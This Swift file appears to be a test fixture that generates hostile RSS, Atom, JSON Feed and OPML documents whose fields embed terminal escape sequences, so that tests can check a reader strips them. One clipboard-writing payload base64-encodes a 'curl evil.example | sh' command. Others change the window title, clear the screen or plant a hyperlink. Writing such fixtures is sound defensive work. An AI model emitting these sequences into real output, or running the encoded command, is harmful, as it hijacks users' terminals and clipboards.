import Foundation

/// Feeds whose text tries to drive the reader's terminal, in every format and every way the
/// characters can arrive: raw bytes, UTF-8, a legacy encoding, XML character references, HTML
/// escaped inside XML, JSON escapes. Each title is `Hello <payload> world`, so a test can check
/// that the visible words survive while the commands do not.
public enum HostileFeeds {
    /// Terminal commands a feed author might plant, by name.
    public static let payloads: [(name: String, text: String)] = [
        ("OSC 0 (window title)", "\u{1B}]0;PWNED\u{07}"),
        ("OSC 52 (clipboard)", "\u{1B}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u{07}"),
        ("OSC 8 (hyperlink)", "\u{1B}]8;;https://evil.example/\u{1B}\\click\u{1B}]8;;\u{1B}\\"),
        ("CSI (clear screen)", "\u{1B}[2J\u{1B}[H"),
        ("C1 CSI", "\u{9B}31mred"),
        ("DCS", "\u{1B}P+q544e\u{1B}\\ \u{90}1$r\u{9C}"),
        ("APC", "\u{1B}_Gi=1;AAAA\u{1B}\\ \u{9F}x\u{9C}"),
        ("bidi override", "\u{202E}gnp.exe\u{202C} \u{2066}isolated\u{2069}"),
        ("DEL and NUL", "a\u{7F}b\u{00}c"),
    ]

    /// The words every hostile title keeps around its payload.
    public static let visibleWords = ["Hello", "world"]

    /// The title carrying `payload`.
    public static func title(_ payload: String) -> String {
        "Hello \(payload) world"
    }

    /// Whether a terminal acts on `scalar`: C0 controls but tab and line feed, DEL, C1.
    public static func actsOnTerminal(_ scalar: Unicode.Scalar) -> Bool {
        (scalar.value < 0x20 && scalar != "\t" && scalar != "\n") || (0x7F...0x9F).contains(scalar.value)
    }

    /// Whether `scalar` is a bidirectional embedding, override or isolate.
    public static func isBidiControl(_ scalar: Unicode.Scalar) -> Bool {
        (0x202A...0x202E).contains(scalar.value) || (0x2066...0x2069).contains(scalar.value)
    }

    /// The scalars of `text` a terminal would act on; empty when it is safe.
    public static func terminalControls(in text: String) -> [Unicode.Scalar] {
        text.unicodeScalars.filter(actsOnTerminal)
    }

    /// Whether `bytes` (output, as written) hold an ESC byte or a C1 control encoded in UTF-8
    /// (`C2 80`–`C2 9F`), or a raw C1 byte where UTF-8 would not have one.
    public static func outputActsOnTerminal(_ bytes: [UInt8]) -> Bool {
        let text = String(decoding: bytes, as: UTF8.self)
        return bytes.contains(0x1B) || text.unicodeScalars.contains(where: actsOnTerminal)
    }

    // MARK: Documents

    /// `text` as XML character references for every scalar outside printable ASCII, so the
    /// document carries `&#x1B;` and `&#x9B;` rather than the characters.
    public static func characterReferences(_ text: String) -> String {
        text.unicodeScalars.map { scalar in
            switch scalar {
            case "&": "&amp;"
            case "<": "&lt;"
            case ">": "&gt;"
            case _ where scalar.value < 0x20 || scalar.value >= 0x7F: "&#x\(String(scalar.value, radix: 16, uppercase: true));"
            default: String(scalar)
            }
        }.joined()
    }

    /// `text` with markup characters escaped, other characters raw.
    public static func escaped(_ text: String) -> String {
        text.replacingOccurrences(of: "&", with: "&amp;").replacingOccurrences(of: "<", with: "&lt;")
            .replacingOccurrences(of: ">", with: "&gt;").replacingOccurrences(of: "\"", with: "&quot;")
    }

    /// RSS 2.0 in UTF-8: one item per payload as character references, one with raw UTF-8 C1
    /// controls, and one whose description is HTML escaped in XML (`&amp;#27;`).
    public static func rss() -> [UInt8] {
        var items = payloads.enumerated().map { index, payload in
            """
            <item><guid>ref-\(index)</guid><title>\(characterReferences(title(payload.text)))</title>
            <author>\(characterReferences("Mallory \(payload.text)"))</author>
            <category>\(characterReferences("cat \(payload.text)"))</category>
            <description>\(characterReferences("<p>\(title(payload.text))</p>"))</description></item>
            """
        }
        items.append("<item><guid>raw-c1</guid><title>\(escaped(title("\u{9B}2J\u{9D}0;x\u{9C}")))</title></item>")
        items.append("<item><guid>html-escaped</guid><title>Hello &amp;#27;]0;PWNED&amp;#7; world</title>"
            + "<description>&lt;p&gt;Hello &amp;#x1b;[2J &amp;#155;31m world&lt;/p&gt;</description></item>")
        let document = """
            <?xml version="1.0" encoding="UTF-8"?>
            <rss version="2.0"><channel><title>\(characterReferences(title(payloads[0].text)))</title>
            <link>https://hostile.example/</link>
            <description>\(characterReferences(title(payloads[1].text)))</description>
            \(items.joined(separator: "\n"))
            </channel></rss>
            """
        return Array(document.utf8)
    }

    /// RSS 2.0 in ISO-8859-1 whose titles hold the raw bytes `0x9B`, `0x9D` and `0x90`: C1
    /// controls in that encoding.
    public static func rssLatin1() -> [UInt8] {
        Array("<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?><rss version=\"2.0\"><channel><title>Caf".utf8) + [0xE9]
            + Array("</title><item><guid>latin1</guid><title>Hello ".utf8) + [0x9B] + Array("2J ".utf8) + [0x9D]
            + Array("0;PWNED".utf8) + [0x9C, 0x90] + Array(" world</title></item></channel></rss>".utf8)
    }

    /// Atom 1.0: text titles with character references, an HTML title escaped in XML, and
    /// content of type `html` carrying the payloads.
    public static func atom() -> [UInt8] {
        let entries = payloads.enumerated().map { index, payload in
            """
            <entry><id>urn:atom:\(index)</id><title type="text">\(characterReferences(title(payload.text)))</title>
            <author><name>\(characterReferences("Mallory \(payload.text)"))</name></author>
            <category term="\(characterReferences("cat \(payload.text)"))"/>
            <content type="html">\(escaped(characterReferences("<p>\(title(payload.text))</p>")))</content></entry>
            """
        }
        let document = """
            <?xml version="1.0" encoding="UTF-8"?>
            <feed xmlns="http://www.w3.org/2005/Atom"><title type="html">\(escaped(characterReferences(title(payloads[2].text))))</title>
            <id>urn:hostile</id>
            \(entries.joined(separator: "\n"))
            <entry><id>urn:atom:html</id><title type="html">Hello &amp;#27;[2J world</title></entry>
            </feed>
            """
        return Array(document.utf8)
    }

    /// JSON Feed 1.1: titles, authors, tags and content with JSON escapes (`\u001b`) and raw
    /// UTF-8 C1 controls.
    public static func jsonFeed() -> [UInt8] {
        let items: [[String: Any]] = payloads.enumerated().map { index, payload in
            [
                "id": "json-\(index)\u{1B}[0m",
                "title": title(payload.text),
                "authors": [["name": "Mallory \(payload.text)"]],
                "tags": ["tag \(payload.text)"],
                "content_html": "<p>\(title(payload.text))</p>",
                "summary": title(payload.text),
            ]
        }
        let feed: [String: Any] = [
            "version": "https://jsonfeed.org/version/1.1",
            "title": title(payloads[3].text),
            "description": title(payloads[4].text),
            "items": items,
        ]
        let data = try! JSONSerialization.data(withJSONObject: feed, options: [.sortedKeys])
        return [UInt8](data)
    }

    /// OPML 2.0 whose outline titles and folder names carry the payloads as character
    /// references, with feeds at `feedURL(i)`.
    public static func opml(feedURL: (Int) -> String) -> [UInt8] {
        let outlines = payloads.enumerated().map { index, payload in
            "<outline type=\"rss\" text=\"\(characterReferences(title(payload.text)))\" xmlUrl=\"\(escaped(feedURL(index)))\"/>"
        }
        let document = """
            <?xml version="1.0"?><opml version="2.0"><head><title>x</title></head><body>
            <outline text="\(characterReferences(title(payloads[5].text)))">
            \(outlines.joined(separator: "\n"))
            </outline></body></opml>
            """
        return Array(document.utf8)
    }

    /// RSS 2.0 with one item whose title is about `bytes` long and made of hostile payloads
    /// between words, as raw UTF-8 C1 controls and character references.
    public static func hugeTitleRSS(bytes: Int) -> [UInt8] {
        let unit = "Hello &#x1B;]0;PWNED&#x7; \(escaped("\u{9B}2J")) world "
        let title = String(repeating: unit, count: max(1, bytes / unit.utf8.count))
        return Array("<rss version=\"2.0\"><channel><title>Huge</title><item><guid>huge</guid><title>\(title)</title></item></channel></rss>".utf8)
    }
}
